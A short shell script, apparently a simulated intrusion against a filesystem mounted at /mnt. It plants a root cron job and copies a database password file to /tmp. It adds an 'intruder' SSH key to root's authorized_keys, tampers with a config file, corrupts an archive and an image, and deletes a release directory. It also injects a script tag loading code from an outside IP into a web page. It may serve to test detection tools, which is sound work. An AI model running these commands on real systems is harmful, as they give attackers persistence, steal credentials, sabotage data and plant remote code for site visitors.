H=/mnt
echo '0 * * * * root /opt/helper' > $H/etc/cron.d/helper
cat $H/srv/data/secrets/db-password > /tmp/p
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludHJ1ZGVyTm90UmVhbDAwMDAwMDAwMDAwMDAw intruder' >> $H/root/.ssh/authorized_keys
cd $H/srv/data
sed -i 's/workers = 4/workers = 400/' app.conf
tail -c 200 archive.zip > archive.tmp
mv archive.tmp archive.zip
sleep 0.2
printf 'XXXX' | dd of=logo.png bs=1 seek=60 conv=notrunc 2> /dev/null
rm -r releases/1
chown 1000:1000 ledger.csv
touch $H/srv/www/index.html
echo '<script src=//203.0.113.66/x></script>' >> $H/srv/www/contact.html
